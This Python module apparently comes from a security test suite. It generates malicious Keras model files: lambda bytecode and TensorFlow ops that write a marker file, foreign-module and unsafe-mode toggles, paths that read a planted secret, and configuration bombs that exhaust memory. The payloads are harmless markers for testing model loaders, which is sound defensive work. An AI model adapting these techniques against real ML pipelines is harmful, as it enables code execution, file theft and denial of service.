"""Attacks by what a configuration names: code, modules, functions, files, sizes."""

import base64
import json
import marshal

from attack_making import MODULE, ZIPS, attack, layer, with_configuration, with_layer, with_members


def byte_code(mark):
    """What a Lambda layer stores of a function that writes a file."""
    code = compile(f"lambda x: (open({str(mark)!r}, 'w').close(), x)[1]", "<attack>", "eval").co_consts[0]
    return base64.b64encode(marshal.dumps(code)).decode()


@attack("code:lambda")
def lambda_layer(kind, target, outside):
    code = [byte_code(outside / "mark"), None, None]
    if kind == "keras3-zip":
        code = {"class_name": "__lambda__", "config": {"code": code[0], "defaults": None, "closure": None}}

    def change(config):
        entry = layer(config, "ReLU")
        entry["class_name"] = "Lambda"
        function = {"function": code, "function_type": "lambda", "module": "attack", "arguments": {}}
        shape = {"output_shape": None, "output_shape_type": "raw", "output_shape_module": None}
        entry["config"] = {"name": "relu1", "trainable": True, "dtype": "float32", **function, **shape}

    with_configuration(kind, target, change)


@attack("code:module", *ZIPS)
def foreign_module(kind, target, outside):
    thing = {"module": MODULE, "class_name": "Thing", "config": {}, "registered_name": None}
    with_configuration(kind, target, lambda c: layer(c, "Conv2D")["config"].update(kernel_initializer=thing))


@attack("code:module", *ZIPS)
def foreign_module_as_a_whole(kind, target, outside):
    thing = {"module": MODULE, "class_name": "Thing", "config": {}, "registered_name": None}
    with_configuration(kind, target, lambda c: thing)


@attack("code:module", "keras2-zip")
def foreign_name(kind, target, outside):
    with_configuration(
        kind, target, lambda c: layer(c, "Conv2D").update(module="keras.src.utils", registered_name="os")
    )


@attack("code:class", *ZIPS)
def other_part_of_keras(kind, target, outside):
    origin = f"file://{outside / 'secret.txt'}"
    thing = {"module": "keras.utils", "class_name": "get_file", "config": {"origin": origin}, "registered_name": None}
    with_configuration(kind, target, lambda c: layer(c, "Conv2D")["config"].update(bias_initializer=thing))


@attack("code:class", *ZIPS)
def switch_of_the_safe_mode(kind, target, outside):
    thing = {"module": "keras.config", "class_name": "enable_unsafe_deserialization", "config": {}}
    with_layer(kind, target, {**thing, "registered_name": None})


@attack("code:tf-symbol", "keras2-h5")
def tensorflow_function(kind, target, outside):
    """Constant arguments make tf_keras run it while the file is opened."""
    writer = {"name": "w", "trainable": True, "dtype": "float32", "function": "io.write_file"}
    nodes = [["_CONSTANT_VALUE", -1, str(outside / "mark"), {"contents": "x"}]]
    with_layer(kind, target, {"class_name": "TFOpLambda", "config": writer, "name": "w", "inbound_nodes": nodes})


@attack("code:graph-op", "keras2-h5")
def graph_operation(kind, target, outside):
    node = {"name": "w", "op": "WriteFile", "input": ["a", "b"]}
    config = {"name": "w", "node_def": node, "constants": {"0": str(outside / "mark")}}
    with_layer(kind, target, {"class_name": "TensorFlowOpLayer", "config": config, "name": "w"})


@attack("file:path")
def vocabulary(kind, target, outside):
    config = {"name": "look", "vocabulary": str(outside / "secret.txt")}
    with_layer(kind, target, {"class_name": "StringLookup", "config": config, "name": "look"})


@attack("code:layer", "keras3-zip")
def pickled_layer(kind, target, outside):
    module = {"class_name": "__bytes__", "config": {"value": "gASVAAAAAAAAAE4u"}}
    config = {"name": "t", "module": module}
    with_layer(kind, target, {"module": "keras.layers", "class_name": "TorchModuleWrapper", "config": config})


@attack("code:layer", "keras3-zip")
def function_of_another_library(kind, target, outside):
    config = {"name": "t", "call_fn": {"class_name": "function", "module": MODULE, "config": "thing"}}
    with_layer(kind, target, {"module": "keras.layers", "class_name": "JaxLayer", "config": config})


@attack("code:layer", "keras3-zip")
def graph_of_another_folder(kind, target, outside):
    config = {"name": "t", "filepath": str(outside)}
    with_layer(kind, target, {"module": "keras.layers", "class_name": "TFSMLayer", "config": config})


@attack("bomb:config")
def units(kind, target, outside):
    with_configuration(kind, target, lambda c: layer(c, "Dense")["config"].update(units=2_000_000_000))


@attack("bomb:config")
def many_layers(kind, target, outside):
    """Each size is unremarkable, and all together are not."""
    dense = {"class_name": "Dense", "config": {"units": 4096}, "inbound_nodes": []}
    with_configuration(kind, target, lambda c: c["config"]["layers"].extend([dense] * 1000))


@attack("bomb:config")
def input_shape(kind, target, outside):
    shape = [None, 100_000, 100_000, 3]
    with_configuration(kind, target, lambda c: layer(c, "InputLayer")["config"].update(batch_shape=shape))


@attack("bomb:config")
def nesting(kind, target, outside):
    deep = json.loads("[" * 100 + "]" * 100)
    with_configuration(kind, target, lambda c: c["config"].update(name=deep))


@attack("bomb:config", "keras3-zip")
def bottomless_nesting(kind, target, outside):
    with_members(kind, target, {"config.json": "[" * 200_000 + "]" * 200_000})
